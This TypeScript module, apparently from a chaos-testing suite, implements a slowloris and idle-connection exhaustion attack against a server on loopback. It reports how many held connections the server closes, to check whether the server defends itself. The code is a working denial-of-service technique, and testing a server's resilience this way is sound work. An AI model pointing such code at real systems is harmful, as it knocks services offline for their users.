// Connection-exhaustion attackers on loopback: `idle` TCP connections that never send a byte, and
// slow-body clients that send a request's headers with a large Content-Length and then one byte
// every few seconds (slowloris). Counts how many the server closed, so the report says whether it
// defends itself (closing them) or holds them.
import net from 'node:net';

export interface AttackReport {
  idleOpened: number;
  idleFailed: number;
  idleClosedByServer: number;
  slowOpened: number;
  slowClosedByServer: number;
}

export class Slowloris {
  private readonly idle = new Set<net.Socket>();
  private readonly slow = new Set<net.Socket>();
  private timer: NodeJS.Timeout | null = null;
  private stopping = false;
  readonly report: AttackReport = { idleOpened: 0, idleFailed: 0, idleClosedByServer: 0, slowOpened: 0, slowClosedByServer: 0 };

  constructor(
    private readonly port: number,
    private readonly writeKey: string,
  ) {}

  /** Opens the connections, `parallel` at a time; resolves once all are open (or failed). */
  async open(idle: number, slow: number, parallel = 500): Promise<void> {
    let next = 0;
    const openOne = (): Promise<void> =>
      new Promise((resolve) => {
        const s = net.connect({ host: '127.0.0.1', port: this.port });
        let connected = false;
        s.once('connect', () => {
          connected = true;
          this.report.idleOpened++;
          this.idle.add(s);
          resolve();
        });
        s.on('error', () => {
          if (!connected) {
            this.report.idleFailed++;
            resolve();
          }
        });
        s.once('close', () => {
          if (this.idle.delete(s) && !this.stopping) this.report.idleClosedByServer++;
        });
      });
    const workers = Array.from({ length: parallel }, async () => {
      while (next < idle) {
        next++;
        await openOne();
      }
    });
    await Promise.all(workers);
    const auth = Buffer.from(`${this.writeKey}:`).toString('base64');
    for (let i = 0; i < slow; i++) {
      const s = net.connect({ host: '127.0.0.1', port: this.port });
      s.on('error', () => {});
      s.once('connect', () => {
        this.report.slowOpened++;
        s.write(`POST /v1/batch HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Basic ${auth}\r\nContent-Type: application/json\r\nContent-Length: 400000\r\n\r\n{"batch":[`);
      });
      s.once('close', () => {
        if (this.slow.delete(s) && !this.stopping) this.report.slowClosedByServer++;
      });
      this.slow.add(s);
    }
    // One more byte of body on each slow connection every 2 s: never finished, never idle.
    this.timer = setInterval(() => {
      for (const s of this.slow) if (!s.connecting) s.write(' ');
    }, 2_000);
  }

  get held(): { idle: number; slow: number } {
    return { idle: this.idle.size, slow: this.slow.size };
  }

  close(): void {
    this.stopping = true;
    if (this.timer) clearInterval(this.timer);
    for (const s of this.idle) s.destroy();
    for (const s of this.slow) s.destroy();
    this.idle.clear();
    this.slow.clear();
  }
}

/**
 * Run alone, so the attack's sockets do not slow the suite's own load generator:
 *   node --import tsx chaos/lib/slowloris.ts <port> <write key> <idle> <slow> <seconds>
 * prints one JSON line (the report plus what was still held at the end) when it is done.
 */
if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split('/').pop()!)) {
  const [port, key, idle, slow, seconds] = process.argv.slice(2);
  const attack = new Slowloris(Number(port), key!);
  const t0 = performance.now();
  await attack.open(Number(idle), Number(slow));
  const openedInS = (performance.now() - t0) / 1000;
  await new Promise((r) => setTimeout(r, Math.max(0, Number(seconds) * 1000 - (performance.now() - t0))));
  const held = attack.held;
  attack.close();
  process.stdout.write(`${JSON.stringify({ ...attack.report, opened_in_s: Math.round(openedInS * 10) / 10, still_held_at_end: held })}\n`);
  process.exit(0);
}
